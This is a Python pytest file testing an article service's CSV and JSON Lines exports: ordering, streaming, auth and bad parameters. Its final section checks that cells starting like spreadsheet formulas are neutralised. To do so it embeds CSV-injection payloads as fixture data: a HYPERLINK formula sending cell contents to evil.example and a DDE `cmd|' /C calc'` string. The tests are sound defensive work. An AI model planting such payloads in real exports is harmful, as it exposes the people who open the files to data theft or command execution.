"""Lists out as tables: GET /export/articles.csv and .jsonl, and the connection's table."""

from __future__ import annotations

import csv
import io
import json

import httpx
import pytest

from ..conftest import SHARED_CORPUS, serve

pytestmark = pytest.mark.skipif(not SHARED_CORPUS.is_dir(), reason="no shared corpus")

READ = "read-token-0123456789"
H = {"Authorization": f"Bearer {READ}"}
WHERE = {"quality": {"gte": 90}, "topics": {"any": ["power apps", "AI"]}}
SORT = [{"field": "QUALITY", "direction": "DESC"}, {"field": "TITLE", "direction": "ASC"}]
LIST = """
query($where: ArticleWhere, $sort: [ArticleSort!], $search: String, $after: String) {
  articles(where: $where, sort: $sort, search: $search, first: 1000, after: $after) {
    totalCount pageInfo { hasNextPage endCursor }
    edges { score node { url title quality publishedAt topics { name } provider { domain } } }
  }
}"""


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("tables")
    env = {"GRAPHSVC_READ_TOKEN": READ}
    # Not --no-watch: without a write token that serves through app_from_env, which
    # (today) ignores --read-token.
    with serve(SHARED_CORPUS, "--read-token", tmp=tmp, env=env) as s:
        s.client.headers.update(H)
        yield s


def listed(server, **v) -> list[dict]:
    out, after = [], None
    while True:
        page = server.data(LIST, {**v, "after": after})["articles"]
        out += page["edges"]
        if not page["pageInfo"]["hasNextPage"]:
            return out
        after = page["pageInfo"]["endCursor"]


def test_csv_is_the_list(server):
    params = {
        "where": json.dumps(WHERE),
        "sort": "QUALITY:DESC,TITLE:ASC",
        "columns": "url,title,quality,publishedAt,topics,provider",
    }
    r = server.client.get("/export/articles.csv", params=params)
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv")
    assert "attachment" in r.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(r.text)))
    expected = listed(server, where=WHERE, sort=SORT)
    assert len(rows) == len(expected) > 10
    for row, e in zip(rows, expected, strict=True):
        n = e["node"]
        assert row["url"] == n["url"] and row["title"] == n["title"]
        assert float(row["quality"]) == n["quality"]
        assert row["publishedAt"] == (n["publishedAt"] or "")
        assert row["topics"] == "; ".join(t["name"] for t in n["topics"])
        assert row["provider"] == ((n["provider"] or {}).get("domain") or "")


def test_jsonl_of_a_search_keeps_rank_and_score(server):
    r = server.client.get(
        "/export/articles.jsonl", params={"search": "sagemaker", "columns": "url,score"}
    )
    assert r.status_code == 200 and r.headers["content-type"] == "application/x-ndjson"
    rows = [json.loads(line) for line in r.text.splitlines()]
    expected = listed(server, search="sagemaker")
    assert [x["url"] for x in rows] == [e["node"]["url"] for e in expected]
    assert [x["score"] for x in rows] == pytest.approx([e["score"] for e in expected])


def test_whole_list_streams_and_graphql_gives_the_same(server):
    with server.client.stream("GET", "/export/articles.csv") as r:
        assert r.headers.get("transfer-encoding") == "chunked"
        text = b"".join(r.iter_bytes()).decode()
    total = server.data("{ stats { articles } }")["stats"]["articles"]
    assert len(list(csv.reader(io.StringIO(text)))) == total + 1  # and a header
    q = '{ articles(sort: [{field: URL}]) { table(format: JSONL, columns: ["url", "extra.nope"], limit: 5) } }'
    table = server.data(q)["articles"]["table"]
    r = server.client.get(
        "/export/articles.jsonl", params={"sort": "URL", "columns": "url,extra.nope", "limit": 5}
    )
    assert table == r.text and len(table.splitlines()) == 5


def test_read_token_and_bad_parameters(server):
    anon = httpx.get(server.base + "/export/articles.csv")
    assert anon.status_code == 401
    for params, says in [
        ({"where": "{not json"}, "where must be JSON"),
        ({"where": '{"quality": {"bogus": 1}}'}, "unknown field 'bogus'"),
        ({"sort": "NOPE:DESC"}, "ArticleSortField"),
        ({"columns": "url,nope"}, "unknown column 'nope'"),
        ({"limit": "-1"}, "limit must be a whole number"),
        ({"orderBy": "SIDEWAYS"}, "orderBy must be one of"),
    ]:
        r = server.client.get("/export/articles.csv", params=params)
        assert r.status_code == 400 and says in r.text, (params, r.text)
    assert server.client.get("/export/articles.xlsx").status_code == 404


# -- issue 22 item 8c: a cell a spreadsheet would run as a formula ---------------------------
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("https://evil.example/?x="&A1,"click")'


@pytest.fixture(scope="module")
def formula_server(tmp_path_factory):
    from ..corpus import article, write

    folder = tmp_path_factory.mktemp("formula-corpus")
    for i, ch in enumerate(FORMULA_STARTS):
        fm = article(
            f"https://formula.example/a{i}",
            f"{ch}{PAYLOAD} title",
            excerpt=f"{ch}{PAYLOAD} excerpt",
            provider={"name": f"{ch}cmd|' /C calc'!A0", "domain": f"p{i}.example"},
            topics=[f"{ch}SUM(1+1)*cmd|' /C calc'!A0", "plain"],
            quality=-5 - i,
        )
        write(folder, f"a{i}.md", fm)
    write(folder, "plain.md", article("https://formula.example/plain", "A plain, title"))
    with serve(folder, "--no-watch", tmp=tmp_path_factory.mktemp("formula")) as s:
        yield s


COLS = ["url", "title", "excerpt", "providerName", "topics", "quality"]
TEXT = ("title", "excerpt", "providerName", "topics")


def check_neutralised(text: str, raw: list[dict]) -> None:
    """``text`` read back with the csv module is ``raw`` (the JSON Lines of the same
    list), each text cell that starts like a formula after one single quote."""
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(raw) == len(FORMULA_STARTS) + 1, text
    quoted = set()
    for row, want in zip(rows, raw, strict=True):
        assert row["url"] == want["url"]
        for col in TEXT:
            value = want[col] if col != "topics" else "; ".join(want[col])
            if value[0] in FORMULA_STARTS:
                quoted.add(value[0])
                assert row[col] == "'" + value, (col, row[col], value)
            else:
                assert row[col] == value, (col, row[col], value)
        assert float(row["quality"]) == want["quality"]  # a number is left as it is
    # Every one of the characters began some cell (ingest turns a leading CR of a title
    # into LF and strips a topic's white space; the provider's name keeps them all).
    assert quoted == set(FORMULA_STARTS), quoted
    plain = next(r for r in rows if r["url"].endswith("plain"))
    assert plain["title"] == "A plain, title"


def test_csv_cells_that_would_run_as_formulas_are_neutralised(formula_server):
    params = {"columns": ",".join(COLS), "sort": "URL"}
    r = formula_server.client.get("/export/articles.jsonl", params=params)
    raw = [json.loads(line) for line in r.text.splitlines()]
    # JSON Lines are data, not a spreadsheet: unchanged.
    assert {f"{ch}{PAYLOAD} excerpt" for ch in "=+-@\t"} <= {x["excerpt"] for x in raw}
    r = formula_server.client.get("/export/articles.csv", params=params)
    assert r.status_code == 200, r.text
    check_neutralised(r.content.decode(), raw)
    q = "query($c: [String!]) { articles(sort: [{field: URL}]) { table(format: CSV, columns: $c) } }"
    table = formula_server.data(q, {"c": COLS})["articles"]["table"]
    assert table == r.content.decode()
    check_neutralised(table, raw)
